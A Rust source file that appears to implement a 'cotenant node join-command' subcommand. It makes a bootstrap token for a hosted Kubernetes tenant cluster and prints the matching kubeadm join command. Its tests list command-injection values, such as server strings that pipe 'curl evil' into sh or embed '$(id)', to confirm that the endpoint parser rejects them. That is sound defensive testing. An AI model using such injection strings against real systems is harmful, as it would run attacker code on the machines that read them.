//! `cotenant node …`: machines that become nodes of a hosted control plane.
//!
//! A machine joins with upstream's `kubeadm join`. What it needs is an address, a token, and the public key of the cluster's
//! authority, all of which the tenant cluster itself tells: so a tenant with a kubeconfig of their own can ask as well as
//! an administrator of the admin cluster.

use std::path::PathBuf;
use std::time::Duration;

use anyhow::Context;
use api::kamaji::v1alpha1::{Phase, TenantControlPlaneStatus};
use jiff::SignedDuration;
use k8s_openapi::ByteString;
use k8s_openapi::api::core::v1::ConfigMap;
use kube::{Api, Client};
use serde::{Deserialize, Serialize};
use tenancy::control_plane::upgrade;

use crate::bootstrap_token::BootstrapToken;
use crate::cluster::Output;
use crate::cluster::find::Named;
use crate::session::Terminal;
use crate::stopped::{EXIT_CODES, Stopped};
use crate::{Place, credentials, worker};

/// How long the tenant's API server may take to answer at its address, and its controllers to sign for the token.
const PATIENCE: Duration = Duration::from_secs(30);
const LOOK_AGAIN: Duration = Duration::from_millis(200);
/// Tokens let machines in, so they end.
const VALIDITY: (SignedDuration, SignedDuration) = (SignedDuration::from_mins(1), SignedDuration::from_hours(24 * 30));

#[derive(Debug, clap::Args)]
#[command(after_help = EXIT_CODES)]
pub struct Args {
    #[command(subcommand)]
    command: Command,
    #[command(flatten)]
    place: Place,
    /// A cluster of your own instead of the local one.
    #[arg(long, env = "KUBECONFIG", global = true)]
    kubeconfig: Option<PathBuf>,
    /// Where the control plane is. Without: wherever one of that name is.
    #[arg(long, short, global = true)]
    namespace: Option<String>,
    #[command(flatten)]
    output: Output,
}

#[derive(Debug, clap::Subcommand)]
enum Command {
    /// Make a token, and print the command that a machine joins with.
    JoinCommand(JoinCommandArgs),
}

#[derive(Debug, clap::Args)]
struct JoinCommandArgs {
    /// Name of the control plane.
    #[arg(required_unless_present = "tenant_kubeconfig")]
    name: Option<String>,
    /// A kubeconfig of the tenant cluster itself, for those who cannot see the admin cluster.
    #[arg(long, value_name = "FILE", conflicts_with = "name")]
    tenant_kubeconfig: Option<PathBuf>,
    /// How long machines may join with it, from a minute to 30 days.
    #[arg(long, value_name = "DURATION", default_value = "24h", value_parser = validity)]
    ttl: SignedDuration,
}

/// Reads how long a token is good for.
fn validity(text: &str) -> Result<SignedDuration, String> {
    let duration: SignedDuration = text
        .parse()
        .map_err(|error| format!("{error}; write it as in 24h or 30m"))?;
    if (VALIDITY.0..=VALIDITY.1).contains(&duration) {
        Ok(duration)
    } else {
        Err("a token is good for a minute at least and for 720h at most".to_owned())
    }
}

/// What a machine joins with.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
struct Invitation {
    command: String,
    endpoint: String,
    token: String,
    /// `sha256:<hex>` of the authority's public key.
    ca_cert_hash: String,
    expires: jiff::Timestamp,
    /// Versions of kubelets that the API server serves, as in `v1.33`.
    kubelets: Option<Kubelets>,
}

#[derive(Debug, Serialize)]
struct Kubelets {
    oldest: String,
    newest: String,
}

/// Runs one of the commands to its end.
///
/// # Errors
/// Whatever stopped it; [`crate::exit_code`] says how it is told to scripts.
pub async fn run(args: Args, terminal: Terminal<'_>) -> anyhow::Result<()> {
    let Command::JoinCommand(join) = &args.command;
    let tenant = if let Some(file) = &join.tenant_kubeconfig {
        let text = std::fs::read_to_string(file).with_context(|| format!("failed to read {}", file.display()))?;
        worker::client(&text).await?
    } else {
        let named = Named {
            namespace: args.namespace.clone(),
            name: join.name.clone().unwrap_or_default(),
        };
        let admin = args.place.client(args.kubeconfig.as_ref()).await?.client;
        of_control_plane(&admin, &named).await?
    };
    worker::answers(&tenant, PATIENCE).await?;
    let invitation = invite(&tenant, join.ttl).await?;
    let said = if args.output.is_json() {
        serde_json::to_string(&invitation)?
    } else {
        invitation.command
    };
    Ok(writeln!(terminal.output, "{said}")?)
}

/// A client of the tenant cluster, if there is one to ask.
async fn of_control_plane(admin: &Client, named: &Named) -> anyhow::Result<Client> {
    let tcp = named.find(admin).await?;
    let status = tcp.status.as_ref();
    match status.and_then(TenantControlPlaneStatus::phase) {
        Some(Phase::Sleeping) => {
            return Err(Stopped::refused(format!(
                "{named} is asleep, so no machine can join; `cotenant cluster wake {}` wakes it",
                named.name
            )));
        }
        None | Some(Phase::Provisioning | Phase::NotReady) => {
            return Err(Stopped::refused(format!(
                "{named} does not answer yet; `cotenant cluster show {}` tells what holds it up",
                named.name
            )));
        }
        Some(_) => {}
    }
    worker::client(&credentials::of_control_plane(admin, &tcp).await?).await
}

/// Makes a token, and waits until it is signed for: a machine that comes earlier would not trust what it finds.
async fn invite(tenant: &Client, ttl: SignedDuration) -> anyhow::Result<Invitation> {
    let published = Published::read(tenant).await?;
    let endpoint = worker::endpoint(&published.server)?;
    let version = tenant
        .apiserver_version()
        .await
        .context("failed to ask the tenant's API server for its version")?;
    let token = BootstrapToken::create(tenant, ttl, "made by `cotenant node join-command`").await?;
    if let Err(error) = signed(tenant, &token).await {
        // Nobody learnt it, so nobody misses it.
        if let Err(error) = token.delete(tenant).await {
            tracing::warn!(%error, "left a bootstrap token behind");
        }
        return Err(error);
    }
    let kubelets = upgrade::kubelets(&version.git_version).map(|(oldest, newest)| Kubelets {
        oldest: oldest.to_string(),
        newest: newest.to_string(),
    });
    let authority = String::from_utf8(published.authority.0).context("the authority in cluster-info is not PEM")?;
    let ca_cert_hash = pki::public_key_hash(&authority)?;
    Ok(Invitation {
        command: format!("kubeadm join {endpoint} --token {token} --discovery-token-ca-cert-hash {ca_cert_hash}"),
        token: token.to_string(),
        expires: token.expires,
        endpoint,
        ca_cert_hash,
        kubelets,
    })
}

async fn signed(tenant: &Client, token: &BootstrapToken) -> anyhow::Result<()> {
    let signature = format!("jws-kubeconfig-{}", token.id);
    let found = cluster_info(tenant, &signature).await?;
    found.map(|_| ()).with_context(|| {
        format!(
            "the token was not signed for within {PATIENCE:?}: does kube-controller-manager run with the controller bootstrapsigner?"
        )
    })
}

/// That entry of `cluster-info`. A tenant that has just been made gets it moments after its API server answers, so it is
/// waited for.
async fn cluster_info(tenant: &Client, entry: &str) -> anyhow::Result<Option<String>> {
    let config_maps: Api<ConfigMap> = Api::namespaced(tenant.clone(), "kube-public");
    let begun = tokio::time::Instant::now();
    loop {
        let found = config_maps.get_opt("cluster-info").await;
        let found = found.context("failed to read the ConfigMap kube-public/cluster-info of the tenant")?;
        let text = found.and_then(|found| found.data?.remove(entry));
        if text.is_some() || begun.elapsed() > PATIENCE {
            return Ok(text);
        }
        tokio::time::sleep(LOOK_AGAIN).await;
    }
}

/// What the tenant cluster tells everybody about itself.
#[derive(Debug, Deserialize)]
struct Published {
    server: String,
    #[serde(rename = "certificate-authority-data")]
    authority: ByteString,
}

impl Published {
    async fn read(tenant: &Client) -> anyhow::Result<Self> {
        let kubeconfig = cluster_info(tenant, "kubeconfig").await?;
        Self::parse(&kubeconfig.context(
            "the tenant has no ConfigMap kube-public/cluster-info with a kubeconfig, which machines join with",
        )?)
    }

    fn parse(kubeconfig: &str) -> anyhow::Result<Self> {
        #[derive(Deserialize)]
        struct Kubeconfig {
            clusters: Vec<Cluster>,
        }
        #[derive(Deserialize)]
        struct Cluster {
            cluster: Published,
        }
        let read: Kubeconfig = serde_norway::from_str(kubeconfig).context("cluster-info holds no kubeconfig")?;
        let first = read.clusters.into_iter().next();
        Ok(first
            .context("the kubeconfig in cluster-info names no cluster")?
            .cluster)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_end() {
        assert_eq!(validity("24h").unwrap(), SignedDuration::from_hours(24));
        assert_eq!(validity("90m").unwrap(), SignedDuration::from_mins(90));
        for text in ["0s", "30s", "721h", "-1h", "soon", ""] {
            assert!(validity(text).is_err(), "{text}");
        }
    }

    #[test]
    fn what_is_published_is_read() {
        let read = Published::parse(
            "clusters:\n- name: \"\"\n  cluster:\n    server: https://192.0.2.7:6443\n    certificate-authority-data: UEVN\n",
        )
        .unwrap();
        assert_eq!(
            (read.server.as_str(), read.authority.0.as_slice()),
            ("https://192.0.2.7:6443", b"PEM".as_slice())
        );
        assert_eq!(worker::endpoint(&read.server).unwrap(), "192.0.2.7:6443");
        assert!(Published::parse("clusters: []").is_err());
        assert!(Published::parse("- 1").is_err());
    }

    #[test]
    fn what_is_published_is_no_command() {
        assert_eq!(
            worker::endpoint("https://[2001:db8::1]:6443").unwrap(),
            "[2001:db8::1]:6443"
        );
        assert_eq!(
            worker::endpoint("https://shop.example.test:+443").unwrap(),
            "shop.example.test:443"
        );
        for server in [
            "https://x;curl evil|sh #",
            "https://x;curl evil|sh #:6443",
            "https://$(id):6443",
            "https://x:6443\ncurl evil",
            "https://x\ncurl evil:6443",
            "https://x:6443 --token=other",
            "https://x:6443/",
            "https://--config:6443",
            "https://https://x:6443",
            "http://x:6443",
            "x:6443",
            "https://x",
            "",
        ] {
            let error = worker::endpoint(server).unwrap_err();
            assert_eq!(crate::exit_code(&error), 3, "{server}");
            assert!(!error.to_string().contains('\n'), "{server}");
        }
    }
}
